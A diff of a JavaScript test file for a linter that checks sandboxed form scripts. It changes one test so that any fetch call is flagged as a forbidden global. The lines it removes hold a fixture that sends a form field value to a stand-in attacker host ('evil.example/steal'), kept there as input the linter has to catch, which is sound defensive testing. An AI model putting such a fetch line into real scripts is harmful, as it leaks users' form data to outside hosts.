@@ -50,22 +50,16 @@ describe('form-script linter (ESLint Linter, the form-script API globals)', () =
     expect(found).toContainEqual(['Scripts_ForbiddenGlobal', 5, 3, { name: 'localStorage' }]);
   });
 
-  it('allows fetch to the own origin only', () => {
+  it("forbids fetch: the sandbox removes it, a script calls the form's requests through form.reload", () => {
     const found = keys(
       [
         'export async function onChange(form, name, value) {',
         '  await fetch("api/v1/codelists/countries");',
-        '  await fetch("https://evil.example/steal?v=" + value);',
-        '  await fetch(`//cdn.example/x`);',
-        '  await fetch(form.getValue("Url"));',
+        '  await form.reload(name);',
         '}',
       ].join('\n'),
     );
-    expect(found).toEqual([
-      ['Scripts_FetchOtherOrigin', 3, 9, { url: 'https://evil.example/steal?v=' }],
-      ['Scripts_FetchOtherOrigin', 4, 9, { url: '//cdn.example/x' }],
-      ['Scripts_FetchUnknownOrigin', 5, 9, {}],
-    ]);
+    expect(found).toEqual([['Scripts_ForbiddenGlobal', 2, 9, { name: 'fetch' }]]);
   });
 
   it('refuses imports and warns about exports that are not hooks', () => {
